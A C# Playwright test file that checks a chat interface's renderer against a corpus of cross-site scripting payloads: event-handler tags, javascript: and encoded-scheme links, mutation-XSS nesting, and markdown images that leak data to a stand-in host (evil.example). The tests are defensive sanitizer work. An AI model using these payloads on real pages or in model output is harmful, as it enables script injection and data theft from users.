using System.Text.Json;
using static Microsoft.Playwright.Assertions;

namespace App.Browser.Tests;

/// <summary>Text of a model, a document or a user stays text: it loads nothing and runs nothing.</summary>
public sealed class UnsafeTextTests(BrowserFixture browser) : IClassFixture<BrowserFixture>
{
    private static readonly string[] Corpus =
    [
        "<script>fire()</script>",
        "<img src=x onerror=fire()>",
        "<svg onload=fire()>",
        "<svg><animate onbegin=fire() attributeName=x dur=1s>",
        "<iframe src=javascript:fire()></iframe>",
        "<iframe srcdoc=\"<script>parent.fire()</script>\"></iframe>",
        "<a href=javascript:fire()>a</a>",
        "<details open ontoggle=fire()>",
        "<input autofocus onfocus=fire()>",
        "<body onload=fire()>",
        "<object data=javascript:fire()>",
        "<embed src=javascript:fire()>",
        "<link rel=stylesheet href=https://evil.example/x.css>",
        "<style>@import 'https://evil.example/x.css'</style>",
        "<meta http-equiv=refresh content='0;url=https://evil.example'>",
        "<base href=https://evil.example>",
        "<form action=https://evil.example><button>a</button></form>",
        "<math><mtext><table><mglyph><style><img src=x onerror=fire()>",
        "<noscript><p title=\"</noscript><img src=x onerror=fire()>\">",
        "&lt;script&gt;fire()&lt;/script&gt;",
        "[a](javascript:fire())",
        "[a](JaVaScRiPt:fire())",
        "[a](&#106;avascript:fire())",
        "[a](java\tscript:fire())",
        "[a](%6Aavascript:fire())",
        "[a](data:text/html,<script>fire()</script>)",
        "[a](vbscript:fire())",
        "[a](blob:https://evil.example/1)",
        "[a](file:///etc/passwd)",
        "[a](//evil.example)",
        "[a](/api/me)",
        "[a](https://)",
        "[a](https://x\" onclick=\"fire\\(\\))",
        "![a](https://evil.example/leak?q=secret)",
        "![a](data:image/svg+xml,<svg onload=fire()>)",
        "[![a](https://evil.example/leak)](javascript:fire())",
        "![a][ref]\n\n[ref]: https://evil.example/leak",
        "<https://evil.example/\"onmouseover=fire()>",
        "```html\n<script>fire()</script>\n```",
        "```\"><img/src=x onerror=fire()>\ncode\n```",
        "`<img src=x onerror=fire()>`",
        "| <img src=x onerror=fire()> | b |\n|---|---|\n| [a](javascript:fire()) | ![a](https://evil.example/x) |",
        "- <img src=x onerror=fire()>\n  - [a](javascript:fire())",
        "> # <img src=x onerror=fire()>",
        "[1](javascript:fire())",
        "</div></li></ol><script>fire()</script>",
        "\u202egnp.exe <img src=x onerror=fire()>",
    ];

    private static readonly HashSet<string> Harmless =
    [
        "P",
        "UL",
        "OL",
        "LI",
        "H3",
        "H4",
        "BLOCKQUOTE",
        "PRE",
        "CODE",
        "FIGURE",
        "FIGCAPTION",
        "SPAN",
        "BUTTON",
        "svg",
        "path",
        "DIV",
        "TABLE",
        "THEAD",
        "TBODY",
        "TR",
        "TH",
        "TD",
        "A",
        "STRONG",
        "EM",
        "DEL",
        "HR",
        "BR",
    ];

    [BrowserFact]
    public async Task No_text_of_the_corpus_loads_or_runs_anything()
    {
        Assert.True(Corpus.Length >= 25);
        await using var chat = await browser.OpenAsync();
        await chat.Page.EvaluateAsync("() => { window.fired = 0; window.fire = () => { fired++; }; }");
        var all = string.Join("\n\n", Corpus);
        await chat.ScriptAsync(
            ScriptedAnswer.Done(
                $"{all}\n\nSaid [1].",
                [ScriptedAnswer.Citation(1, Corpus[1], Corpus[2], all, source: "javascript:fire()")],
                [1]
            )
        );

        await chat.StartAsync(string.Join(' ', Corpus)[..1500]);
        await chat.ExpectState("done");
        await chat.Answer.Locator(".sources button").ClickAsync();
        await Expect(chat.Source).ToBeVisibleAsync();

        var found = await chat.Page.EvaluateAsync<JsonElement>(
            """
            () => [...document.querySelectorAll('.text *, .words *, #source-body *, #source-title *')].map((node) => ({
              name: node.nodeName, address: node.getAttribute('href') ?? node.getAttribute('src') ?? '', rel: node.rel ?? '',
              handler: node.getAttributeNames().some((name) => name.startsWith('on')),
            }))
            """
        );
        Assert.InRange(found.GetArrayLength(), Corpus.Length, 2000);
        Assert.All(found.EnumerateArray(), node =>
        {
            var name = node.GetProperty("name").GetString()!;
            var address = node.GetProperty("address").GetString()!;
            Assert.True(Harmless.Contains(name) || name is "DL" or "DT" or "DD" or "MARK", name);
            Assert.False(node.GetProperty("handler").GetBoolean());
            Assert.True(address.Length == 0 || address.StartsWith("https://", StringComparison.Ordinal), address);
            Assert.True(name != "A" || node.GetProperty("rel").GetString() == "noopener noreferrer nofollow");
        });
        Assert.Equal(0, await chat.Page.EvaluateAsync<int>("() => fired"));
    }

    [BrowserFact]
    public async Task The_corpus_runs_scripts_on_an_unsafe_page()
    {
        var page = await browser.OpenBlankAsync();

        await page.SetContentAsync("<div></div>");
        var fired = await page.EvaluateAsync<bool>(
            """
            (markup) => new Promise((resolve) => {
              window.fire = () => resolve(true);
              document.querySelector('div').innerHTML = markup;
            })
            """,
            Corpus[1]
        );

        Assert.True(fired);
        await page.CloseAsync();
    }

    [BrowserFact]
    public async Task Images_become_their_description_and_only_web_links_work()
    {
        await using var chat = await browser.OpenAsync();

        await chat.AskScriptedAsync(
            ScriptedAnswer.Done(
                "![secret](https://evil.example/leak?q=1) "
                    + "[press](javascript:alert(1)) [good](https://learn.microsoft.com) https://example.com/a_b."
            )
        );

        var text = chat.Answer.Locator(".text");
        await Expect(text).ToHaveTextAsync("secret press good https://example.com/a_b.");
        await Expect(text.Locator("a")).ToHaveCountAsync(2);
        await Expect(text.Locator("a").First).ToHaveAttributeAsync("href", "https://learn.microsoft.com");
        await Expect(text.Locator("a").Last).ToHaveAttributeAsync("href", "https://example.com/a_b");
    }
}
